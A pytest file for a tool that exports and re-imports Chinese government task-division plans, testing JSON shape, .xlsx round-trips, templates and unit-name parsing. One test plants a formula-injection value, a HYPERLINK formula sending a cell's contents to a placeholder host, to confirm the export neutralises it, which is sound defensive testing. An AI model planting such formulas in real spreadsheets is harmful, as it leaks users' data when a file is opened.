"""Export: the stable JSON shape, the re-importable .xlsx, the template and the example plan."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from flows.demo_plan import OFFICE, UNITS, write_example_directory, write_example_plan
from models import Department, Task
from tasks.directory.departments import load_directory
from tasks.errors import ImportFailed, NotFound
from tasks.plans.export import export_plan, export_xlsx, join_units, list_tasks
from tasks.plans.intake import import_parsed, import_plan
from tasks.plans.parsed import ParsedIndicator, ParsedMilestone, ParsedPlan, ParsedTarget, ParsedTask
from tasks.plans.template import write_template

DATA = Path(__file__).resolve().parents[2] / "data"


@pytest.fixture
def example(session: Session, tmp_path: Path) -> str:
    """The example plan imported with its directory; returns the plan code."""
    asked: list[str] = []

    def channel_for(name: str) -> list[str]:
        asked.append(name)
        return [f"json://127.0.0.1:9/unit{len(asked)}"]

    directory = write_example_directory(tmp_path / "departments.yaml", channel_for,
                                        lambda name: [f"json://127.0.0.1:9/head{len(name)}"])
    load_directory(session, directory)
    session.commit()
    assert set(asked) == set(UNITS) | {OFFICE}
    assert all(d.head_channels for d in session.exec(select(Department).where(Department.kind == "unit")))
    report = import_plan(session, write_example_plan(tmp_path / "example.xlsx"), plan_code="example")
    assert not [p for p in report.problems if p.kind == "unknown_unit"]
    return report.plan_code


def without_sources(data: dict[str, Any]) -> dict[str, Any]:
    return {"tasks": [{k: v for k, v in t.items() if k != "source"} for t in data["tasks"]],
            "indicators": data["indicators"],
            "plan": {k: v for k, v in data["plan"].items() if k not in ("code", "revision")}}


def test_json_shape_with_canonical_names(session: Session, example: str) -> None:
    data = export_plan(session, example)
    assert set(data) == {"plan", "tasks", "indicators"}
    assert data["plan"]["doc_number"] == "示政办发〔2016〕18号" and data["plan"]["issued_on"] == "2016-03-15"
    assert (data["plan"]["midterm_year"], data["plan"]["final_year"], data["plan"]["revision"]) == (2017, 2020, 1)
    first = data["tasks"][0]
    assert {"code", "section", "section_path", "text", "remark", "lead", "support", "responsible", "milestones",
            "source"} <= set(first)
    assert first["milestones"][0] == {"key": "2016年", "label": "2016年", "text": "2016年4月底前下文明确。",
                                      "due": "2016-04-30", "soft": False, "ongoing_after": False,
                                      "recurrence": None, "recurrence_count": None, "undated_reason": None}
    assert first["source"] == {"file": "example.xlsx", "ref": "row 4"}
    names = {n for t in data["tasks"] for role in ("lead", "support", "responsible") for n in t[role]}
    assert names <= set(UNITS) | {"各相关部门", "各区、县（市）政府", "各乡镇（街道）"}
    indicator = data["indicators"][2]
    assert indicator["name"] == "心理健康知识知晓率" and indicator["unit"] == "%" and indicator["task"] == "5.2"
    assert indicator["baselines"][0]["year"] == 2015 and indicator["baselines"][0]["value"] == 50
    assert indicator["targets"][0]["value_kind"] == "relative" and indicator["targets"][1]["text"] == "≥70"


def test_inactive_tasks_are_not_exported(session: Session, example: str) -> None:
    task = session.exec(select(Task).where(Task.code == "1.2")).one()
    task.active = False
    session.commit()
    assert "1.2" not in [t["code"] for t in export_plan(session, example)["tasks"]]


def test_xlsx_round_trip(session: Session, example: str, tmp_path: Path) -> None:
    original = export_plan(session, example)
    path = export_xlsx(session, example, tmp_path / "out.xlsx")
    again = import_plan(session, path, plan_code="copy")
    assert not again.problems
    assert without_sources(export_plan(session, "copy")) == without_sources(original)
    same = import_plan(session, path, plan_code=example)
    assert same.changed is False
    assert load_workbook(path).sheetnames == ["任务", "指标", "计划信息"]


def test_formula_looking_text_is_exported_as_text_and_reads_back_unchanged(session: Session,
                                                                           tmp_path: Path) -> None:
    from tasks.plans.importers.spreadsheet import read_xlsx
    from tests.factories import make_department, make_plan, make_task

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    plan = make_plan(session, code="p")
    unit = make_department(session, "=1+1市民政局")
    make_task(session, plan, "1", hostile, lead=[unit], milestones=[{"label": "2016年", "text": "@SUM(A1:A9)"}])
    session.commit()
    path = export_xlsx(session, "p", tmp_path / "out.xlsx")
    sheet = load_workbook(path)["任务"]
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if str(c.value)[:1] in "=@"}
    assert cells == {hostile: "s", "=1+1市民政局": "s", "@SUM(A1:A9)": "s"}
    [task] = read_xlsx(path).tasks  # what `duban import` reads back
    assert task.text == hostile


def test_round_trip_of_responsible_only_layout(session: Session, tmp_path: Path) -> None:
    import_plan(session, DATA / "responsible_only.xlsx", plan_code="r")
    path = export_xlsx(session, "r", tmp_path / "r.xlsx")
    import_plan(session, path, plan_code="r2")
    assert without_sources(export_plan(session, "r2"))["tasks"] == without_sources(export_plan(session, "r"))["tasks"]


def test_join_units_round_trips_awkward_names() -> None:
    from tasks.plans.unit_names import split_units

    for names in (["各区、县（市）政府", "各相关部门"], ["公安", "各相关部门"], ["余杭区", "淳安县政府"]):
        assert split_units(join_units(names)) == names


def test_template_imports_and_explains_itself(session: Session, tmp_path: Path) -> None:
    path = write_template(tmp_path / "plan.xlsx")
    book = load_workbook(path)
    assert "说明" in book.sheetnames and "牵头单位" in [c.value for c in book["任务"][2]]
    assert any("顿号" in (row[0].value or "") for row in book["说明"].iter_rows())
    report = import_plan(session, path, plan_code="tpl")
    assert report.counts["tasks"] == 1 and report.counts["indicators"] == 1
    assert report.tasks[0]["lead"] == ["市卫生健康委"]


def test_list_tasks_filters(session: Session, example: str) -> None:
    from datetime import date

    everything = list_tasks(session)
    assert len(everything) == 15
    civil = list_tasks(session, department="市民政局")
    assert {"2.2", "3.3", "4.2"} <= {t["code"] for t in civil}
    assert "1.1" in {t["code"] for t in civil}  # through the group 各相关部门
    early = list_tasks(session, plan_code=example, due_before=date(2016, 4, 30))
    assert {t["code"] for t in early} == {"1.1", "2.1", "4.1"}
    with pytest.raises(NotFound):
        list_tasks(session, department="不存在的局")
    with pytest.raises(NotFound, match="example"):
        export_plan(session, "nope")


def invented_plan() -> ParsedPlan:
    """A plan of every awkward shape: several milestones under one label with different texts, responsible-only
    and unit-less rows, recurring duties, soft and undated schedules, indicators with their wording."""
    plan = ParsedPlan(source_file="invented.docx", source_format="docx", title="示例县养老服务体系建设任务分工",
                      issuing_office="示例县人民政府办公室", doc_number="示县办〔2021〕7号", issued_on=date(2021, 3, 2),
                      period_start=2021, period_end=2025, midterm_year=2023, final_year=2025)
    plan.tasks = [
        ParsedTask("建立养老服务联席会议制度，每季度召开1次会议。", "line 5", "1.1", ["组织保障", "工作机制"],
                   lead=["县民政局"], support=["县财政局", "县卫生健康局"],
                   milestones=[ParsedMilestone("2021年", "2021年6月底前建立制度；每季度召开1次会议。"),
                               ParsedMilestone("2023年", "力争在2023年底前实现乡镇全覆盖。")]),
        ParsedTask("制定社区养老服务设施建设规划。", "line 9", "1.2", ["组织保障", "工作机制"],
                   responsible=["县自然资源局"],
                   milestones=[ParsedMilestone("完成时限", "2021年9月底前完成规划编制"),
                               ParsedMilestone("完成时限", "2022年底前报县政府批准"),
                               ParsedMilestone("完成时限", "之后每年评估1次")]),
        ParsedTask("开展养老护理员培训，每年不少于2次。", "line 12", "2.1", ["队伍建设"],
                   responsible=["县人力社保局", "各乡镇人民政府"],
                   milestones=[ParsedMilestone("完成时限", "每年不少于2次"),
                               ParsedMilestone("完成时限", "2025年底前持证上岗率达到90%")]),
        ParsedTask("提高老年人健康管理率。", "line 15", "2.2", ["队伍建设"],
                   milestones=[ParsedMilestone("2023年", "≥70%。"), ParsedMilestone("2025年", "≥75%。")]),
        ParsedTask("完善农村互助养老服务。", "line 18", "3.1", ["服务供给"], lead=["县民政局"],
                   milestones=[ParsedMilestone("完成时限", "视情推进")], remark="试点先行"),
    ]
    plan.indicators = [
        ParsedIndicator("养老机构护理型床位占比", "line 30", "1", "服务供给", "%", "higher",
                        "到2025年，养老机构护理型床位占比达到55%以上。", "1.2",
                        [ParsedTarget("baseline", "40", 2020, "全县"), ParsedTarget("target", "≥55", 2025, "全县")]),
        ParsedIndicator("老年人健康管理率", "line 31", "2", "健康支撑", "%", None, None, "2.2",
                        [ParsedTarget("target", "≥75", 2025)]),
    ]
    return plan


def test_an_exported_workbook_imports_to_the_same_plan_field_for_field(session: Session, tmp_path: Path) -> None:
    """Several milestones under one label, responsible-only and unit-less rows, duties, indicators: all come back,
    and importing the export over the plan makes no new revision."""
    first = import_parsed(session, invented_plan(), plan_code="yl")
    assert first.revision == 1
    original = export_plan(session, "yl")
    keys = [m["key"] for m in original["tasks"][1]["milestones"]]
    assert len(set(keys)) == 3 and all(k.startswith("完成时限") for k in keys)
    path = export_xlsx(session, "yl", tmp_path / "yl.xlsx")
    again = import_plan(session, path, plan_code="yl")
    assert (again.changed, again.revision) == (False, 1), again.changes
    copy = import_plan(session, path, plan_code="yl-copy")
    assert [p.kind for p in copy.problems if p.severity == "error"] == []
    assert [p.ref for p in copy.problems if p.kind == "no-lead"] == ["row 6"]  # told, as the document was
    assert without_sources(export_plan(session, "yl-copy")) == without_sources(original)


def test_the_seed_word_table_comes_back_from_its_workbook(session: Session, seeds: Path, tmp_path: Path) -> None:
    """The Hangzhou table has rows with no unit at all and cells holding several milestones."""
    import_plan(session, seeds / "hangzhou-task-table.docx", plan_code="hz")
    original = export_plan(session, "hz")
    assert any(not t["lead"] and not t["responsible"] for t in original["tasks"])
    path = export_xlsx(session, "hz", tmp_path / "hz.xlsx")
    again = import_plan(session, path, plan_code="hz")
    assert (again.changed, again.revision) == (False, 1)
    import_plan(session, path, plan_code="hz-copy")
    assert without_sources(export_plan(session, "hz-copy")) == without_sources(original)


def test_a_unit_cell_saying_none_is_no_unit(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_text("编号,任务,牵头单位,配合单位,完成时限\n1,建立制度,县民政局,无,2021年底前\n2,提高知晓率,无,,2022年\n",
                    encoding="utf-8")
    report = import_plan(session, path, plan_code="none")
    assert report.tasks[0]["support"] == [] and report.tasks[1]["lead"] == []
    assert not session.exec(select(Department).where(Department.name == "无")).all()
    blank = tmp_path / "blank.csv"
    blank.write_text("编号,任务,牵头单位,配合单位,完成时限\n1,建立制度,,县财政局,2021年底前\n", encoding="utf-8")
    with pytest.raises(ImportFailed, match="1 problem"):  # an empty lead cell in a spreadsheet is still a mistake
        import_plan(session, blank, plan_code="blank")
